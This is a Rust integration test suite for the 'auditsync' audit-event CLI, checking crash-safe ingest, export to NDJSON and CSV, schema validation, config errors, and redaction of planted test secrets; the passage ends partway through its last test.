//! The real `auditsync` binary against a real SQLite file and real directories.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::{json, Value};

mod support;
use support::{decompress, files_under, line, read_back, Env};

fn config(destinations: Value) -> Value {
    json!({
        "enableUserEvents": true,
        "namespace": "acme",
        "destinations": destinations,
    })
}

/// Issue 10, point 3: CLI ingest is all or nothing per input file, also when it is killed
/// after the store committed some of its steps.
#[test]
fn an_ingest_killed_half_way_leaves_nothing_and_can_be_run_again() {
    let env = Env::new(config(json!([{"name": "nd", "type": "pv", "root": "nd"}])));
    env.ingest(&(0..3).map(line).collect::<Vec<_>>());
    let file = env.path("big.ndjson");
    let text: String = (100..60_100).map(|i| format!("{}\n", line(i))).collect();
    std::fs::write(&file, text).unwrap();
    let mut child = env
        .command(&["ingest", file.to_str().unwrap()])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Steps are 2 MiB: once the database and its WAL have grown by 8 MiB, several are in.
    let size = |name: &str| std::fs::metadata(env.path(name)).map_or(0, |m| m.len());
    let started = std::time::Instant::now();
    while size("db/audit.db") + size("db/audit.db-wal") < 8 << 20 {
        assert!(
            child.try_wait().unwrap().is_none(),
            "the ingest ended before it could be killed"
        );
        assert!(started.elapsed() < Duration::from_secs(120), "no progress");
        std::thread::sleep(Duration::from_millis(5));
    }
    child.kill().unwrap();
    child.wait().unwrap();

    // Opening the store undoes the dead ingest's steps: only the first three events are held.
    assert_eq!(env.events_held(), 3);
    let out = env.ok(&["export", "--once"]);
    assert!(out.contains("nd: 1 files, 3 events"), "{out}");
    assert_eq!(
        env.ok(&["ingest", file.to_str().unwrap()]),
        "ingested 60000 events (0 already stored, ignored)\n"
    );
    let out = env.ok(&["export", "--once"]);
    assert!(out.contains("60000 events"), "{out}");
    assert_eq!(read_back(&env.path("nd")).len(), 60_003);
}

#[test]
fn ten_thousand_events_round_trip_through_ndjson_and_csv_then_gc() {
    let env = Env::new(config(json!([
        {"name": "nd", "type": "pv", "root": "nd", "format": "ndjson", "compression": "gzip", "max_events": 1500},
        {"name": "cs", "type": "pv", "root": "cs", "prefix": "exports/", "format": "csv", "compression": "zstd", "max_events": 4000},
    ])));
    let lines: Vec<Value> = (0..10_000).map(line).collect();
    assert_eq!(
        env.ingest(&lines),
        "ingested 10000 events (0 already stored, ignored)\n"
    );
    // replaying the same ids changes nothing
    let with_ids: Vec<Value> = (50_000..50_003)
        .map(|i| {
            let mut l = line(i);
            l["id"] = json!(format!("fixed-{i}"));
            l
        })
        .collect();
    env.ingest(&with_ids);
    assert_eq!(
        env.ingest(&with_ids),
        "ingested 0 events (3 already stored, ignored)\n"
    );

    let out = env.ok(&["export", "--once"]);
    assert!(out.contains("nd: 7 files, 10003 events"), "{out}");
    assert!(out.contains("cs: 3 files, 10003 events"), "{out}");

    let nd = read_back(&env.path("nd"));
    let cs = read_back(&env.path("cs"));
    assert_eq!(nd.len(), 10_003);
    assert_eq!(cs.len(), 10_003);
    for (i, input) in lines.iter().enumerate() {
        let i = i as u64;
        assert_eq!(&nd[&i], input, "ndjson record {i}");
        // same keys in the same order
        let keys = |v: &Value| v.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
        assert_eq!(keys(&nd[&i]), keys(input));
        for (column, value) in input.as_object().unwrap() {
            assert_eq!(&cs[&i][column], value, "csv record {i} column {column}");
        }
    }
    let first_csv = files_under(&env.path("cs"))[0].clone();
    assert!(
        first_csv
            .to_string_lossy()
            .contains("cs/exports/acme/audit/2023/07/29/"),
        "{first_csv:?}"
    );

    assert_eq!(env.events_held(), 10_003);
    assert_eq!(
        env.ok(&["gc", "--once"]),
        "gc: deleted 10003 exported events\n"
    );
    assert_eq!(env.events_held(), 0);

    // With disableUeventsGC the store keeps what was exported.
    let mut keep = config(json!([{"name": "nd", "type": "pv", "root": "nd"}]));
    keep["disableUeventsGC"] = json!(true);
    env.write_config(keep);
    env.ingest(&(20_000..20_100).map(line).collect::<Vec<_>>());
    env.ok(&["export", "--once"]);
    assert_eq!(read_back(&env.path("nd")).len(), 10_103);
    assert!(env.ok(&["gc", "--once"]).contains("disabled"));
    assert_eq!(env.events_held(), 100);
}

#[test]
fn a_stuck_destination_holds_back_only_itself_and_catches_up() {
    let env = Env::new(config(json!([
        {"name": "good", "type": "pv", "root": "good", "max_events": 500},
        {"name": "stuck", "type": "pv", "root": "stuck", "max_events": 500},
    ])));
    // A regular file where the directory should be: unwritable, even for root.
    std::fs::write(env.path("stuck"), "in the way").unwrap();
    env.ingest(&(0..3_000).map(line).collect::<Vec<_>>());

    let out = env.run(&["export", "--once"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success(), "{stdout}");
    assert!(stdout.contains("good: 6 files, 3000 events"), "{stdout}");
    assert!(
        stdout.contains("stuck: FAILED after 0 files") && stdout.contains("put `"),
        "{stdout}"
    );
    assert_eq!(read_back(&env.path("good")).len(), 3_000);

    env.ok(&["gc", "--once"]);
    assert_eq!(env.events_held(), 3_000, "GC keeps what `stuck` lacks");
    let status = env.ok(&["status"]);
    assert!(
        status.contains("stuck: cursor 0, backlog 3000 events"),
        "{status}"
    );
    // Another process (this `status`) shows the failure the export recorded in the store.
    let failing = status
        .lines()
        .find(|l| l.starts_with("stuck: FAILING since "))
        .unwrap_or_else(|| panic!("no failing line: {status}"));
    assert!(
        failing.contains("(1 failed run(s)), next attempt at ") && failing.contains("put `"),
        "{failing}"
    );
    assert!(!status.contains("good: FAILING"), "{status}");

    std::fs::remove_file(env.path("stuck")).unwrap();
    env.ingest(&(3_000..3_200).map(line).collect::<Vec<_>>());
    // An operator's export does not wait out the pause the failed one recorded.
    let out = env.ok(&["export", "--once"]);
    assert!(out.contains("good: 1 files, 200 events"), "{out}");
    assert!(out.contains("stuck: 7 files, 3200 events"), "{out}");
    let status = env.ok(&["status"]);
    assert!(
        !status.contains("FAILING"),
        "cleared by the run that ended well: {status}"
    );
    assert_eq!(read_back(&env.path("good")).len(), 3_200);
    assert_eq!(read_back(&env.path("stuck")).len(), 3_200);
    env.ok(&["gc", "--once"]);
    assert_eq!(env.events_held(), 0);
}

#[test]
fn sigkill_during_export_leaves_no_partial_file_and_no_duplicate() {
    let env = Env::new(config(json!([
        {"name": "local", "type": "pv", "root": "out", "max_events": 100,
         "compression": "gzip", "compression_level": 9, "stale_temp_secs": 0},
    ])));
    let total = 20_000;
    env.ingest(&(0..total).map(line).collect::<Vec<_>>());
    let finished_files = || {
        files_under(&env.path("out"))
            .into_iter()
            .filter(|p| {
                !p.file_name()
                    .unwrap()
                    .to_string_lossy()
                    .starts_with(".auditsync-tmp")
            })
            .count()
    };
    let mut kills = 0;
    // Each export is killed once it has finished `wait_for` more files: a moment inside its
    // work however fast this machine exports (a fixed delay let fast exports end first). The
    // moment within the next file is left to the poll. 0 kills one before its first file.
    for wait_for in [0usize, 1, 3, 6, 2, 9, 4, 12, 5, 8] {
        let before = finished_files();
        let mut child = env
            .command(&["export", "--once"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        while finished_files() < before + wait_for
            && child.try_wait().unwrap().is_none()
            && std::time::Instant::now() < deadline
        {
            std::thread::sleep(Duration::from_millis(2));
        }
        if wait_for == 0 {
            std::thread::sleep(Duration::from_millis(15));
        }
        if child.try_wait().unwrap().is_none() {
            child.kill().unwrap(); // SIGKILL
            kills += 1;
        }
        child.wait().unwrap();
        // whatever was written so far is whole
        for path in files_under(&env.path("out")) {
            let name = path.file_name().unwrap().to_string_lossy().to_string();
            if !name.starts_with(".auditsync-tmp") {
                decompress(&path);
            }
        }
    }
    assert!(
        kills >= 8,
        "only {kills} exports were killed mid-way; the test lost its point"
    );
    env.ok(&["export", "--once"]);
    let records = read_back(&env.path("out"));
    assert_eq!(records.len() as u64, total);
    let status = env.ok(&["status"]);
    assert!(
        status.contains(&format!("local: cursor {total}, backlog 0 events")),
        "{status}"
    );
}

#[test]
fn the_seed_sample_lines_come_out_as_they_went_in() {
    let env = Env::new(config(
        json!([{"name": "local", "type": "pv", "root": "out"}]),
    ));
    let sample =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/seed-002-sample.ndjson");
    let out = env.ok(&["ingest", sample.to_str().unwrap()]);
    assert_eq!(out, "ingested 3 events (0 already stored, ignored)\n");
    env.ok(&["export", "--once"]);
    let input = std::fs::read_to_string(&sample).unwrap();
    let files = files_under(&env.path("out"));
    assert_eq!(files.len(), 1);
    let output = std::fs::read_to_string(&files[0]).unwrap();
    let parse = |text: &str| -> Vec<serde_json::Map<String, Value>> {
        text.lines()
            .map(|l| {
                serde_json::from_str::<Value>(l)
                    .unwrap()
                    .as_object()
                    .unwrap()
                    .clone()
            })
            .collect()
    };
    let (input, output) = (parse(&input), parse(&output));
    assert_eq!(input.len(), 3);
    for (a, b) in input.iter().zip(&output) {
        assert_eq!(a, b);
        assert_eq!(a.keys().collect::<Vec<_>>(), b.keys().collect::<Vec<_>>());
    }
}

#[test]
fn a_bad_line_rejects_the_whole_input_naming_line_and_field() {
    let env = Env::new(config(
        json!([{"name": "local", "type": "pv", "root": "out"}]),
    ));
    let good = line(1).to_string();
    let mut missing = line(2);
    missing.as_object_mut().unwrap().remove("createdAt");
    let cases: Vec<(Vec<u8>, &str)> = vec![
        (
            format!("{good}\n{good}\n{missing}\n").into_bytes(),
            "line 3: field `createdAt`: missing required field",
        ),
        (
            format!("{good}\n{{\"opType\": \n").into_bytes(),
            "line 2: malformed JSON",
        ),
        (
            [good.as_bytes(), b"\n\xff\xfe\n"].concat(),
            "line 2: malformed JSON: invalid UTF-8",
        ),
        (
            format!("{good}\n[1,2]\n").into_bytes(),
            "line 2: field ``: expected a JSON object",
        ),
        (b"\n\n".to_vec(), "holds no event"),
        (
            format!(
                "{}\n",
                line(3).to_string().replace("\"opType\"", "\"optype\"")
            )
            .into_bytes(),
            "line 1: field `optype`: unknown field",
        ),
    ];
    for (input, expected) in cases {
        let path = env.path("bad.ndjson");
        std::fs::write(&path, &input).unwrap();
        let out = env.run(&["ingest", path.to_str().unwrap()]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success());
        assert!(
            stderr.contains(expected) && stderr.contains("nothing was stored"),
            "{expected}: {stderr}"
        );
    }
    assert_eq!(env.events_held(), 0);
}

#[test]
fn a_streamed_input_is_stored_whole_or_not_at_all_even_when_only_its_last_line_is_bad() {
    let env = Env::new(config(
        json!([{"name": "local", "type": "pv", "root": "out"}]),
    ));
    // About 12 MB: many read chunks, parsed in parallel, in one store transaction.
    let n = 40_000u64;
    let mut body: String = (0..n).map(|i| format!("{}\n", line(i))).collect();
    assert!(body.len() > 8 << 20, "{} bytes", body.len());
    let mut missing = line(n);
    missing.as_object_mut().unwrap().remove("createdAt");
    let bad = format!("{body}{missing}\n");
    let path = env.path("big.ndjson");
    std::fs::write(&path, &bad).unwrap();
    let out = env.run(&["ingest", path.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    let expected = format!("line {}: field `createdAt`: missing required field", n + 1);
    assert!(
        stderr.contains(&expected) && stderr.contains("nothing was stored"),
        "{stderr}"
    );
    assert_eq!(env.events_held(), 0);

    // The same through standard input, with a line over the size limit at the end instead.
    body.push_str(&format!("{{\"opType\": \"{}\"}}\n", "x".repeat(2 << 20)));
    let mut child = env
        .command(&["ingest", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || {
        use std::io::Write;
        // The process may stop reading at the bad line: a broken pipe is expected.
        let _ = stdin.write_all(body.as_bytes());
    });
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(
        stderr.contains(&format!("line {}: event is", n + 1)) && stderr.contains("over the limit"),
        "{stderr}"
    );
    assert_eq!(env.events_held(), 0);

    // Without the bad line, every event is stored, in the input's order.
    let good: String = (0..n).map(|i| format!("{}\n", line(i))).collect();
    std::fs::write(&path, good).unwrap();
    let out = env.ok(&["ingest", path.to_str().unwrap()]);
    assert_eq!(
        out,
        format!("ingested {n} events (0 already stored, ignored)\n")
    );
    assert_eq!(env.events_held(), n);
    env.ok(&["export", "--once"]);
    let exported = read_back(&env.path("out"));
    assert_eq!(exported.len() as u64, n);
    assert_eq!(exported[&0], line(0));
    assert_eq!(exported[&(n - 1)], line(n - 1));
}

#[test]
fn auditsyncs_own_events_are_valid_records_of_every_built_in_schema() {
    let schemas = ["uevents", "warehouse", "actor_change"];
    let destinations: Vec<Value> = schemas
        .iter()
        .map(|s| json!({"name": s, "type": "pv", "root": s, "schema": s}))
        .collect();
    let env = Env::new(config(json!(destinations)));
    // `verify` records `auditsync.verify.completed`; the export writes it with each schema.
    env.ok(&["verify"]);
    env.ok(&["export", "--once"]);
    for schema in schemas {
        let files = files_under(&env.path(schema));
        assert_eq!(files.len(), 1, "{schema}: {files:?}");
        let text = decompress(&files[0]);
        assert!(
            text.contains("auditsync.verify.completed"),
            "{schema}: {text}"
        );
        if schema == "uevents" {
            let row: Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
            assert_eq!(row["opType"], json!("Query"), "{row}");
        }
        // The exported file goes back in, strictly validated against the same schema.
        let mut cfg = config(json!([]));
        cfg["schema"] = json!(schema);
        let again = Env::new(cfg);
        let out = again.ok(&["ingest", files[0].to_str().unwrap()]);
        assert_eq!(
            out, "ingested 1 events (0 already stored, ignored)\n",
            "{schema}"
        );
    }
}

#[test]
fn disabled_user_events_record_nothing_and_say_so() {
    let mut cfg = config(json!([{"name": "local", "type": "pv", "root": "out"}]));
    cfg["enableUserEvents"] = json!(false);
    let env = Env::new(cfg);
    let file = env.path("in.ndjson");
    std::fs::write(&file, format!("{}\n", line(1))).unwrap();
    let out = env.run(&["ingest", file.to_str().unwrap()]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("enableUserEvents is false"));
    assert_eq!(env.events_held(), 0);
    assert!(env
        .ok(&["config", "check"])
        .contains("enableUserEvents is false"));
    // the environment can turn it on
    let out = env
        .command(&["ingest", file.to_str().unwrap()])
        .env("AUDITSYNC_ENABLE_USER_EVENTS", "true")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(env.events_held(), 1);
}

#[test]
fn verify_names_the_destination_the_step_and_the_reason() {
    let env = Env::new(config(json!([
        {"name": "fine", "type": "pv", "root": "fine"},
        {"name": "broken", "type": "pv", "root": "broken", "prefix": "p"},
    ])));
    std::fs::write(env.path("broken"), "not a directory").unwrap();
    let out = env.run(&["verify"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success());
    assert!(
        stdout.contains("fine (pv:") && stdout.contains("): ok"),
        "{stdout}"
    );
    assert!(stdout.contains("broken (pv:"), "{stdout}");
    assert!(stdout.contains("FAILED: put `p/verify-test-"), "{stdout}");
    assert!(
        files_under(&env.path("fine")).is_empty(),
        "verify cleans up"
    );
}

#[test]
fn invalid_config_is_refused_naming_the_key() {
    let cases = [
        (
            json!({"ueventsSchedule": "0 */5 * * *"}),
            "config key `ueventsSchedule`",
        ),
        (
            json!({"destinations": [{"name": "x", "type": "ftp"}]}),
            "`destinations[0].type`: unknown sink `ftp`; known: ",
        ),
        (
            json!({"destinations": [{"name": "x", "type": "pv", "root": "r", "format": "xml"}]}),
            "unknown formatter `xml`; known: csv, ndjson",
        ),
        (
            json!({"destinations": [{"name": "x", "type": "pv", "root": "r", "compression": "lz4"}]}),
            "`destinations[0].compression`: unknown compression `lz4`",
        ),
        (
            json!({"destinations": [{"name": "x", "type": "pv", "rooot": "r"}]}),
            "`destinations[0].rooot`: unknown field",
        ),
    ];
    for (cfg, expected) in cases {
        let env = Env::new(cfg);
        let out = env.run(&["status"]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success());
        assert!(stderr.contains(expected), "{expected}: {stderr}");
    }
    let env = Env::new(json!({}));
    std::fs::write(&env.config, "{ not json").unwrap();
    let stderr = String::from_utf8(env.run(&["status"]).stderr).unwrap();
    assert!(stderr.contains("not valid JSON"), "{stderr}");
}

#[test]
fn sinks_lists_what_the_binary_was_built_with() {
    let out = Command::new(env!("CARGO_BIN_EXE_auditsync"))
        .arg("sinks")
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    let enabled: Vec<&str> = [
        ("azure", cfg!(feature = "azure")),
        ("gcs", cfg!(feature = "gcs")),
        ("pv", cfg!(feature = "pv")),
        ("s3", cfg!(feature = "s3")),
    ]
    .into_iter()
    .filter_map(|(name, on)| on.then_some(name))
    .collect();
    assert!(
        stdout.contains(&format!("sinks: {}\n", enabled.join(", "))),
        "{stdout}"
    );
    assert!(stdout.contains("formatters: csv, ndjson\n"), "{stdout}");
}

#[test]
fn a_new_password_never_reaches_the_store_the_files_or_the_logs() {
    let mut cfg = config(json!([{"name": "local", "type": "pv", "root": "out", "format": "csv"}]));
    let env = Env::new(cfg.clone());
    let key_file = env.path("hmac.key");
    std::fs::write(&key_file, "a-test-key-of-more-than-16-bytes\n").unwrap();
    cfg["redact"] = json!({"fields": ["ssn"],
        "hmac": {"fields": ["actor.user_email", "params.email"], "key_file": key_file}});
    env.write_config(cfg);
    let secret = "hunter2-Sup3rSecret";
    let mut set_password = line(1);
    set_password["nameHints"] = json!(["setPassword"]);
    set_password["requestParams"] = json!({"n": 1, "uid": "u-1", "newPassword": secret, "ssn": "078-05-1120", "email": "u1@example.com"});
    set_password["requestPayload"] = json!(format!(
        "{{\"variables\":{{\"newPassword\":\"{secret}\"}}}}"
    ));
    let out = env
        .command(&["ingest", "-"])
        .env("AUDITSYNC_LOG", "trace")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            child
                .stdin
                .take()
                .unwrap()
                .write_all(format!("{set_password}\n").as_bytes())?;
            child.wait_with_output()
        })
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let export = env
        .command(&["export", "--once"])
        .env("AUDITSYNC_LOG", "trace")
        .output()
        .unwrap();
    assert!(export.status.success());
    let logs = [out.stdout, out.stderr, export.stdout, export.stderr].concat();
    std::fs::write(env.path("logs.txt"), logs).unwrap();

    let exported = read_back(&env.path("out"));
    assert_eq!(
        exported[&1]["requestParams"]["newPassword"],
        json!("[REDACTED]")
    );
    assert_eq!(exported[&1]["requestParams"]["ssn"], json!("[REDACTED]"));
    assert_eq!(exported[&1]["requestParams"]["uid"], json!("u-1"));
    // The email is pseudonymized, not removed: a keyed hash, the same wherever it appears.
    let hashed = exported[&1]["userEmail"].as_str().unwrap().to_string();
    assert!(hashed.starts_with("hmac-sha256:"), "{hashed}");
    assert!(exported[&1]["requestParams"]["email"]
        .as_str()
        .unwrap()
        .starts_with("hmac-sha256:"));
    // every byte under the temp dir: SQLite files, WAL, exported files, logs
    for path in files_under(env.dir.path()) {
        let bytes = std::fs::read(&path).unwrap();
        let found = bytes.windows(secret.len()).any(|w| w == secret.as_bytes())
            || bytes.windows(11).any(|w| w == b"078-05-1120")
            || bytes.windows(17).any(|w| w == b"user1@example.com")
            || bytes.windows(14).any(|w| w == b"u1@example.com");
        assert!(!found, "a secret reached {path:?}");
    }
}

#[test]
fn permissive_validation_stores_and_flags_what_strict_refuses() {
    let mut unknown = line(1);
    unknown["nameHints"] = json!(["getUsr"]);
    let mut missing = line(2);
    missing["requestParams"] = json!({"n": 2});
    let input = format!("{}\n{unknown}\n{missing}\n", line(0));

    let strict = Env::new(config(
        json!([{"name": "local", "type": "pv", "root": "out"}]),
    ));
    std::fs::write(strict.path("in.ndjson"), &input).unwrap();
    let out = strict
        .command(&["ingest", strict.path("in.ndjson").to_str().unwrap()])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("line 2: field `nameHints`: unknown action getUsr"),
        "{stderr}"
    );
    let status = strict.command(&["status"]).output().unwrap();
    assert!(
        String::from_utf8_lossy(&status.stdout).contains("store: 0 events held"),
        "{}",
        String::from_utf8_lossy(&status.stdout)
    );

    let mut cfg = config(json!([{"name": "local", "type": "pv", "root": "out"}]));
    cfg["ingest"] = json!({"validation": "permissive"});
    let permissive = Env::new(cfg);
    std::fs::write(permissive.path("in.ndjson"), &input).unwrap();
    let out = permissive
        .command(&["ingest", permissive.path("in.ndjson").to_str().unwrap()])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stdout.contains("ingested 3 events")
            && stdout.contains("2 break the schema's rules")
            && stdout.contains("line 2: field `nameHints`"),
        "{stdout}"
    );
    assert_eq!(
        stderr.matches("permissive validation").count(),
        2,
        "one warning per flagged event: {stderr}"
    );
    assert!(permissive
        .command(&["export", "--once"])
        .status()
        .unwrap()
        .success());
    let exported = read_back(&permissive.path("out"));
    assert_eq!(exported.len(), 3);
    assert_eq!(exported[&1]["nameHints"], json!(["getUsr"]));
}

#[test]
fn schema_commands_list_show_and_print_ddl_including_custom_schemas() {
    let mut cfg = config(
        json!([{"name": "logins", "type": "pv", "root": "out", "schema": "logins", "format": "csv"}]),
    );
    let env = Env::new(cfg.clone());
    let file = env.path("logins.json");
    std::fs::write(
        &file,
        r#"{"name": "logins", "version": 3,
            "columns": [
              {"name": "at", "type": "timestamp", "field": "time", "required": true},
              {"name": "who", "type": "string", "field": "actor.user_id"},
              {"name": "what", "type": "string", "field": "action", "required": true}
            ],
            "catalog": [{"name": "login"}, {"name": "logout"}]}"#,
    )
    .unwrap();
    cfg["schema_files"] = json!([file]);
    cfg["schema"] = json!("logins");
    env.write_config(cfg);
    let run = |args: &[&str]| {
        let out = env.command(args).output().unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).to_string(),
            String::from_utf8_lossy(&out.stderr).to_string(),
        )
    };
    let (ok, list, _) = run(&["schema", "list"]);
    assert!(ok);
    for row in [
        "uevents                1       9      69",
        "warehouse              1      29      45",
        "actor_change           1       9      32",
        "logins                 3       3       2",
    ] {
        assert!(list.contains(row), "{row}\n{list}");
    }
    let (ok, show, _) = run(&["schema", "show", "uevents", "--catalog"]);
    assert!(ok);
    assert!(show.contains("catalog: 69 actions"), "{show}");
    assert!(
        show.lines()
            .any(|l| l.contains("getUser ") && l.contains("also: User")),
        "{show}"
    );
    let (ok, ddl, _) = run(&[
        "schema",
        "ddl",
        "logins",
        "--dialect",
        "bigquery",
        "--format",
        "csv",
    ]);
    assert!(ok);
    assert!(ddl.contains("CREATE TABLE IF NOT EXISTS `logins` (\n  `at` TIMESTAMP,\n  `who` STRING,\n  `what` STRING\n);"), "{ddl}");
    let (ok, ddl, _) = run(&["schema", "ddl", "warehouse", "--dialect", "snowflake"]);
    assert!(
        ok && ddl.contains("\"EVENT_TIME\" TIMESTAMP_NTZ(3)"),
        "{ddl}"
    );
    let (ok, _, err) = run(&["schema", "show", "nope"]);
    assert!(
        !ok && err.contains(
            "unknown schema `nope`; known: actor_change, event, logins, uevents, warehouse"
        ),
        "{err}"
    );
    let (ok, _, err) = run(&["schema", "ddl", "uevents", "--dialect", "oracle"]);
    assert!(
        !ok && err.contains("--dialect: unknown dialect `oracle`"),
        "{err}"
    );

    // The custom schema validates ingest and shapes the export.
    std::fs::write(
        env.path("in.ndjson"),
        "{\"at\": \"2024-03-01T10:00:00Z\", \"who\": \"u-1\", \"what\": \"login\"}\n",
    )
    .unwrap();
    let (ok, _, err) = run(&["ingest", env.path("in.ndjson").to_str().unwrap()]);
    assert!(ok, "{err}");
    std::fs::write(
        env.path("bad.ndjson"),
        "{\"at\": \"2024-03-01T10:00:00Z\", \"what\": \"sudo\"}\n",
    )
    .unwrap();
    let (ok, _, err) = run(&["ingest", env.path("bad.ndjson").to_str().unwrap()]);
    assert!(
        !ok && err.contains("field `what`: unknown action sudo"),
        "{err}"
    );
    let (ok, _, err) = run(&["export", "--once"]);
    assert!(ok, "{err}");
    let files = files_under(&env.path("out"));
    assert_eq!(files.len(), 1);
    let text = std::fs::read_to_string(&files[0]).unwrap();
    assert_eq!(text, "at,who,what\r\n2024-03-01 10:00:00.000,u-1,login\r\n");

    // A broken schema file is named with its key.
    std::fs::write(&file, r#"{"name": "logins", "version": 1, "columns": []}"#).unwrap();
    let (ok, _, err) = run(&["config", "check"]);
    assert!(
        !ok && err.contains("schema_files[0]") && err.contains("`time`"),
        "{err}"
    );
}

fn rfc3339(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(ms)
        .unwrap()
        .to_rfc3339_opts(chrono::SecondsFormat::Millis, true)
}

#[test]
fn a_range_export_merges_store_and_archive_each_event_once_in_time_order() {
    let env = Env::new(config(json!([
        {"name": "archive", "type": "pv", "root": "archive", "format": "ndjson", "compression": "gzip", "max_events": 700}
    ])));
    let ingest = |range: std::ops::Range<u64>, name: &str| {
        // Out of time order on purpose: the output must still be sorted.
        let body: String = range.rev().map(|i| format!("{}\n", line(i))).collect();
        std::fs::write(env.path(name), body).unwrap();
        env.ok(&["ingest", env.path(name).to_str().unwrap()]);
    };
    let run = |args: &[&str]| {
        let out = env.command(args).output().unwrap();
        assert!(
            out.status.success(),
            "{args:?}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stderr).to_string()
    };
    ingest(0..3_000, "a.ndjson");
    run(&["export", "--once"]);
    run(&["gc", "--once"]);
    ingest(3_000..3_600, "b.ndjson"); // exported below and kept: in both
    run(&["export", "--once"]);
    ingest(3_600..4_000, "c.ndjson"); // only in the store
    let base = line(0)["createdAt"].as_i64().unwrap();
    let (from, to) = (rfc3339(base + 500 * 1_000), rfc3339(base + 3_800 * 1_000));
    let out = env.path("range.csv");
    let summary = run(&[
        "export",
        "--from",
        &from,
        "--to",
        &to,
        "--source",
        "archive",
        "--format",
        "csv",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(summary.contains("exported 3300 events"), "{summary}");
    assert!(
        summary.contains("600 found in both written once"),
        "{summary}"
    );
    let body = std::fs::read(&out).unwrap();
    let records = support::records("range.csv", &body);
    let ns: Vec<u64> = records
        .iter()
        .map(|r| r["requestParams"]["n"].as_u64().unwrap())
        .collect();
    assert_eq!(
        ns,
        (500..3_800).collect::<Vec<_>>(),
        "each event of the range once, in time order"
    );
    for (r, n) in records.iter().zip(500u64..) {
        assert_eq!(r, &line(n), "record {n} as it went in");
    }
    // The same range to stdout: the same bytes.
    let piped = env
        .command(&[
            "export", "--from", &from, "--to", &to, "--source", "archive", "--format", "csv",
            "--out", "-",
        ])
        .output()
        .unwrap();
    assert!(piped.status.success());
    assert_eq!(piped.stdout, body, "stdout and file differ");
    // Dates take whole days; a filter narrows; nothing is left behind on a bad request.
    let day = &rfc3339(base)[..10];
    let summary = run(&[
        "export",
        "--from",
        day,
        "--to",
        day,
        "--source",
        "archive",
        "--filter",
        "actor=user7@example.com,actor=user3900@example.com",
        "--out",
        env.path("two.ndjson").to_str().unwrap(),
        "--format",
        "ndjson",
    ]);
    assert!(summary.contains("exported 2 events"), "{summary}");
    let two = support::records(
        "two.ndjson",
        &std::fs::read(env.path("two.ndjson")).unwrap(),
    );
    assert_eq!(two, [line(7), line(3_900)]);
    let bad = env
        .command(&[
            "export",
            "--from",
            "yesterday",
            "--to",
            day,
            "--out",
            env.path("x.csv").to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr)
        .contains("--from: \"yesterday\" is not an RFC 3339 time"));
    assert!(!env.path("x.csv").exists());
    // Each range taken out was recorded first (the refused one was not).
    run(&["export", "--once"]);
    let recorded = files_under(&env.path("archive"))
        .iter()
        .flat_map(|p| support::records(&p.to_string_lossy(), &std::fs::read(p).unwrap()))
        .filter(|r| r["nameHints"][0] == "auditsync.export.range")
        .count();
    assert_eq!(recorded, 3);
}

#[test]
fn a_range_export_reads_a_csv_zstd_archive_and_merges_by_event_id() {
    // The warehouse schema carries the event id (EVENT_ID), so store and archive are merged
    // by id; its CSV files are read back by column type.
    let mut cfg = config(json!([
        {"name": "archive", "type": "pv", "root": "archive", "format": "csv", "compression": "zstd",
         "schema": "warehouse", "max_events": 300}
    ]));
    cfg["schema"] = json!("warehouse");
    let env = Env::new(cfg);
    let base: i64 = 1_709_251_200_000; // 2024-03-01T00:00:00Z
    let event = |i: i64| {
        let kind = ["user_login", "app_deployed", "new_api_key"][(i % 3) as usize];
        json!({"EVENT_ID": format!("ev-{i:05}"), "EVENT_TIME": base + i * 60_000,
               "EVENT_TYPE": kind,
               "EMAIL": format!("u{i}@example.com"), "APP_ID": format!("app,{}", i % 4),
               "ORGANIZATION_ID": "acme"})
    };
    let ingest = |range: std::ops::Range<i64>| {
        let body: String = range.map(|i| format!("{}\n", event(i))).collect();
        std::fs::write(env.path("in.ndjson"), body).unwrap();
        env.ok(&["ingest", env.path("in.ndjson").to_str().unwrap()]);
    };
    ingest(0..2_000);
    env.ok(&["export", "--once"]);
    env.ok(&["gc", "--once"]);
    ingest(2_000..2_500);
    env.ok(&["export", "--once"]); // in both
    ingest(2_500..2_700); // store only
    let out = env.path("range.ndjson");
